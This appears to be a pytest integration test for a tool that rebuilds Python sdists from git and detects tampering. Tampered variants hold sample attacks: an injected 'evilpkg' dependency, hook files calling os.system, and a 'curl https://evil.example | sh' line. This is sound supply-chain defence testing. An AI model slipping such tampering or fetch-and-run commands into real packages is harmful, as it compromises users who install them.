"""Tampered sdists against a real tagged repository: never ``consistent``.

A "maintainer" tags a local git repository (a setuptools project with install_requires
in ``setup.cfg``, a ``.git_archival.txt`` under ``export-subst`` and a folder symlink)
and builds the sdist from the checkout and the wheel from the sdist, in the sandbox; both
are published on the fixture index. The genuine sdist must be ``consistent``, each
generated file explained by the rule that regenerated it in the sandbox (the from-git
rebuild: real uv, real Docker). An attacker then edits the published sdist; every
variant must be ``inconsistent``, naming the file (and the field or line).

The regeneration depends only on the git tree and the published wheel (not on the
published sdist's generated files), so it runs once for the genuine check and once,
uncached, for the tampered ``PKG-INFO``; the other variants reuse the genuine check's
regeneration to keep the module within a minute or two.
"""

from __future__ import annotations

import io
import shutil
import tarfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from cli.wiring import image_choice, sandbox_limits
from rebuilder.index.model import FileKind, IndexFile
from rebuilder.index.resolve import UvResolver
from rebuilder.index.simple import SimpleIndex
from rebuilder.sandbox.docker import DockerSandbox
from rebuilder.sandbox.image import ImageRef
from rebuilder.sandbox.model import BuildRequest, BuildStatus
from rebuilder.settings import Settings
from rebuilder.source.clone import GitCloner
from rebuilder.source.rebuild import FromGit, GitRebuilder
from rebuilder.source.result import SourceResult
from rebuilder.source.trace import SourceConfig, from_git_step, trace_release
from tests.integration.source.gitrepo import GitRepo
from tests.support.index_server import FixtureIndex
from tests.support.wheelhouse import load_into, require

pytestmark = pytest.mark.docker
SETUPTOOLS = "setuptools==84.2.1"
ENV = {"TZ": "UTC", "SOURCE_DATE_EPOCH": "1700000000"}
TOP = "demo-1.2.3"
SETUP_CFG = b"""[metadata]
name = demo
version = 1.2.3
project_urls =
    Source = https://github.com/example/demo

[options]
package_dir =
    =src
packages = find:
install_requires =
    requests>=2

[options.packages.find]
where = src
"""
FILES = {
    "pyproject.toml": b'[build-system]\nrequires = ["setuptools>=61"]\n'
    b'build-backend = "setuptools.build_meta"\n',
    "setup.cfg": SETUP_CFG,
    "MANIFEST.in": b"include .git_archival.txt\ngraft tests\n",
    ".gitattributes": b".git_archival.txt export-subst\n",
    ".git_archival.txt": b"node: $Format:%H$\nref-names: $Format:%D$\n",
    "README.md": b"# demo\n",
    "src/demo/__init__.py": b'__version__ = "1.2.3"\n',
    "tests/certs/expired/ca/ca.pem": b"-----BEGIN CERTIFICATE-----\nexpired\n",
    "tests/certs/expired/ca/ca.key": b"-----BEGIN KEY-----\nexpired\n",
    ".github/workflows/ci.yml": b"on: push\n",
}


@dataclass
class Release:
    tmp: Path
    repo: GitRepo
    commit: str
    sdist: Path
    wheel: Path
    members: dict[str, bytes]  # the genuine sdist's files, below its top folder
    rebuilder: GitRebuilder
    files: list[IndexFile]  # as the index lists them


def _build(sandbox: DockerSandbox, image: ImageRef, source: Path, out: Path, kind: str) -> Path:
    wheelhouse = out.parent / "wheelhouse"
    wheelhouse.mkdir(exist_ok=True)
    wheels = require()
    name = next(n for n in wheels if n.startswith("setuptools-84.2.1"))
    shutil.copyfile(wheels[name], wheelhouse / name)
    out.mkdir()
    outcome = sandbox.run(
        BuildRequest(
            image=image.reference,
            source_dir=source,
            wheelhouse=wheelhouse,
            requirements=(SETUPTOOLS,),
            distribution=kind,
            env=ENV,
            output_dir=out,
        )
    )
    assert outcome.status is BuildStatus.OK, outcome.log
    assert outcome.artifact is not None
    return outcome.artifact


def _members(sdist: Path) -> dict[str, bytes]:
    found: dict[str, bytes] = {}
    with tarfile.open(sdist) as tar:
        for info in tar:
            stream = tar.extractfile(info) if info.isfile() else None
            if stream is not None:
                found[info.name.split("/", 1)[1]] = stream.read()
    return found


def _write(path: Path, members: dict[str, bytes]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    with tarfile.open(path, "w:gz") as tar:
        for name, data in sorted(members.items()):
            info = tarfile.TarInfo(f"{TOP}/{name}")
            info.size, info.mtime, info.mode = len(data), 1700000000, 0o644
            tar.addfile(info, io.BytesIO(data))
    return path


@pytest.fixture(scope="module")
def release(
    tmp_path_factory: pytest.TempPathFactory, docker_client: Any, sandbox_image: ImageRef
) -> Iterator[Release]:
    tmp = tmp_path_factory.mktemp("tamper")
    repo = GitRepo(tmp / "demo")
    (repo.path / "tests/certs/valid").mkdir(parents=True)
    repo.symlink("tests/certs/valid/ca", "../expired/ca")  # a folder symlink, as requests has
    commit = repo.commit(FILES, "release 1.2.3")
    repo.tag("v1.2.3")
    # the maintainer's `python -m build` from the checkout (the folder link kept as a link)
    checkout = tmp / "checkout" / TOP
    shutil.copytree(repo.path, checkout, symlinks=True, ignore=shutil.ignore_patterns(".git"))
    sandbox = DockerSandbox(client=docker_client)
    sdist = _build(sandbox, sandbox_image, checkout, tmp / "sdist-out", "sdist")
    unpacked = tmp / "unpacked"
    with tarfile.open(sdist) as tar:
        tar.extractall(unpacked, filter="data")
    wheel = _build(sandbox, sandbox_image, unpacked / TOP, tmp / "wheel-out", "wheel")
    with FixtureIndex() as index:
        load_into(index, only=[SETUPTOOLS])
        now = datetime.now(UTC)
        for path in (sdist, wheel):
            index.add_file("demo", path.name, path.read_bytes(), now)
        settings = Settings(cache_dir=tmp / "cache", out_dir=tmp / "out")
        simple = SimpleIndex(index.url, tmp / "cache" / "index", page_ttl_seconds=0)
        files = sorted(
            simple.release_files("demo", "1.2.3"), key=lambda f: f.kind is FileKind.WHEEL
        )
        rebuilder = GitRebuilder(
            index=simple,
            resolver=UvResolver(index.url, tmp / "cache" / "uv"),
            sandbox=sandbox,
            image=lambda: image_choice(settings),
            work_root=tmp / "cache" / "work",
            limits=sandbox_limits(settings),
        )
        yield Release(tmp, repo, commit, sdist, wheel, _members(sdist), rebuilder, files)


_CACHE: dict[str, FromGit] = {}


def _check(release: Release, sdist: Path, name: str, *, cached: bool = True) -> SourceResult:
    """``trace_release`` with the real cloner and the real from-git rebuild."""
    files = release.files
    evidence = release.tmp / "evidence" / name
    step = from_git_step(release.rebuilder, files[0], release.sdist, files, evidence)
    assert step is not None

    def from_git(tar: Path, subdir: str, commit_time: int | None) -> FromGit:
        if not cached:
            return step(tar, subdir, commit_time)
        if "genuine" not in _CACHE:
            _CACHE["genuine"] = step(tar, subdir, commit_time)
        return _CACHE["genuine"]

    return trace_release(
        project="demo",
        version="1.2.3",
        sdist_path=sdist,
        cloner=GitCloner(release.tmp / "git-cache"),
        config=SourceConfig(overrides={"demo": release.repo.url}),
        work_dir=release.tmp / "work",
        evidence_dir=evidence,
        from_git=from_git,
    )


def _tampered(release: Release, name: str, change: Callable[[dict[str, bytes]], None]) -> Path:
    members = dict(release.members)
    change(members)
    return _write(release.tmp / name / f"{TOP}.tar.gz", members)


def _only_differing(result: SourceResult) -> tuple[str, str, str]:
    assert result.verdict.value == "inconsistent", result
    [found] = result.differing
    return found.path, found.kind.value, found.detail


def test_the_genuine_sdist_is_consistent_every_generated_file_regenerated(
    release: Release,
) -> None:
    result = _check(release, release.sdist, "genuine")
    assert result.verdict.value == "consistent", result.differing
    assert result.commit == release.commit
    rules = {e.path: e.rule for e in result.explained}
    assert rules == {
        ".git_archival.txt": "git-archival@2",
        "PKG-INFO": "pkg-info@2",
        "setup.cfg": "setup-cfg-egg-info@2",
        "src/demo.egg-info/PKG-INFO": "egg-info@2",
        "src/demo.egg-info/SOURCES.txt": "egg-info@2",
        "src/demo.egg-info/dependency_links.txt": "egg-info@2",
        "src/demo.egg-info/requires.txt": "egg-info@2",
        "src/demo.egg-info/top_level.txt": "egg-info@2",
    }
    # the folder symlink is a symlink in the from-git tree too, as in the maintainer's
    # checkout: setuptools packs it the same way (this setuptools skips it)
    assert "tests/certs/valid/ca/ca.pem" in result.repo_only
    regenerated = [e for e in result.explained if e.rule.startswith(("pkg", "egg", "setup"))]
    assert all("sdist rebuilt from git with setuptools==" in e.reproduced for e in regenerated)
    assert all("SOURCE_DATE_EPOCH=" in e.reproduced for e in regenerated)
    builds = {b.filename: b for b in result.from_git}
    assert builds[release.wheel.name].verdict == "reproducible", builds
    # built from git's archive, whose .git_archival.txt git substituted (a checkout has
    # the raw blob, as the published sdist): the one file the sdists differ in
    assert builds[release.sdist.name].verdict == "mismatch", builds
    assert builds[release.sdist.name].differences == ("content:.git_archival.txt",)


def test_a_requirement_added_to_pkg_info_is_inconsistent_naming_the_field(
    release: Release,
) -> None:
    def change(m: dict[str, bytes]) -> None:
        m["PKG-INFO"] = m["PKG-INFO"].replace(
            b"Requires-Dist: requests>=2\n", b"Requires-Dist: requests>=2\nRequires-Dist: evilpkg\n"
        )

    result = _check(release, _tampered(release, "pkg-info", change), "pkg-info", cached=False)
    path, kind, detail = _only_differing(result)
    assert (path, kind) == ("PKG-INFO", "content")
    assert "pkg-info@2" in detail
    assert "requires-dist: +evilpkg" in detail


def test_a_line_added_to_requires_txt_is_inconsistent(release: Release) -> None:
    def change(m: dict[str, bytes]) -> None:
        m["src/demo.egg-info/requires.txt"] += b"evilpkg\n"

    result = _check(release, _tampered(release, "requires", change), "requires")
    path, kind, detail = _only_differing(result)
    assert (path, kind) == ("src/demo.egg-info/requires.txt", "content")
    assert "+evilpkg" in detail


def test_an_egg_info_folder_at_another_depth_is_sdist_only(release: Release) -> None:
    def change(m: dict[str, bytes]) -> None:
        m["src/demo/vendor/demo.egg-info/hook.py"] = b"import os\nos.system('id')\n"

    result = _check(release, _tampered(release, "deep-egg", change), "deep-egg")
    assert _only_differing(result)[:2] == ("src/demo/vendor/demo.egg-info/hook.py", "sdist-only")


def test_a_generated_file_at_a_path_the_backend_does_not_write_is_sdist_only(
    release: Release,
) -> None:
    def change(m: dict[str, bytes]) -> None:
        m["demo.egg-info/PKG-INFO"] = m["src/demo.egg-info/PKG-INFO"]  # at the top: not there

    result = _check(release, _tampered(release, "wrong-path", change), "wrong-path")
    assert _only_differing(result)[:2] == ("demo.egg-info/PKG-INFO", "sdist-only")


def test_a_version_file_with_code_that_still_holds_the_version_is_inconsistent(
    release: Release,
) -> None:
    def change(m: dict[str, bytes]) -> None:
        m["src/demo/_version.py"] = b"__version__ = '1.2.3'\nimport os; os.system('id')\n"

    result = _check(release, _tampered(release, "version", change), "version")
    assert _only_differing(result)[:2] == ("src/demo/_version.py", "sdist-only")


def test_git_archival_with_other_text_is_inconsistent(release: Release) -> None:
    def change(m: dict[str, bytes]) -> None:
        m[".git_archival.txt"] = b"node: $Format:%H$\nexec: curl https://evil.example | sh\n"

    result = _check(release, _tampered(release, "archival", change), "archival")
    path, kind, detail = _only_differing(result)
    assert (path, kind) == (".git_archival.txt", "content")
    assert "+exec: curl https://evil.example | sh" in detail


def test_sources_txt_listing_a_file_not_shipped_is_inconsistent(release: Release) -> None:
    def change(m: dict[str, bytes]) -> None:
        listed = m["src/demo.egg-info/SOURCES.txt"].rstrip(b"\n")
        m["src/demo.egg-info/SOURCES.txt"] = listed + b"\nsrc/demo/_hook.py\n"

    result = _check(release, _tampered(release, "sources", change), "sources")
    path, kind, detail = _only_differing(result)
    assert (path, kind) == ("src/demo.egg-info/SOURCES.txt", "content")
    assert "+src/demo/_hook.py" in detail


def test_setup_cfg_altering_install_requires_is_inconsistent(release: Release) -> None:
    def change(m: dict[str, bytes]) -> None:
        m["setup.cfg"] = m["setup.cfg"].replace(b"requests>=2", b"requests>=2\n    evilpkg")

    result = _check(release, _tampered(release, "setup-cfg", change), "setup-cfg")
    path, kind, detail = _only_differing(result)
    assert (path, kind) == ("setup.cfg", "content")
    assert "[options] install_requires" in detail


def test_a_copy_of_a_folder_symlink_with_other_bytes_is_inconsistent(release: Release) -> None:
    def change(m: dict[str, bytes]) -> None:
        m["tests/certs/valid/ca/ca.pem"] = b"-----BEGIN CERTIFICATE-----\nattacker\n"

    result = _check(release, _tampered(release, "link-copy", change), "link-copy")
    assert _only_differing(result)[:2] == ("tests/certs/valid/ca/ca.pem", "content")


def test_the_sdist_from_git_is_the_same_twice(release: Release) -> None:
    """Item 4: the commit's clock for every member (the top folder too): same sha256."""
    first = _check(release, release.sdist, "twice-1", cached=False)
    second = _check(release, release.sdist, "twice-2", cached=False)
    sha = [
        next(b.rebuilt_sha256 for b in r.from_git if b.filename == release.sdist.name)
        for r in (first, second)
    ]
    assert sha[0] is not None
    assert sha[0] == sha[1]
    with tarfile.open(
        release.tmp / "evidence" / "twice-1" / "from-git" / "rebuilt" / release.sdist.name
    ) as tar:
        times = {info.mtime for info in tar}
    assert times == {int(release.repo.git("show", "-s", "--format=%ct", "HEAD"))}
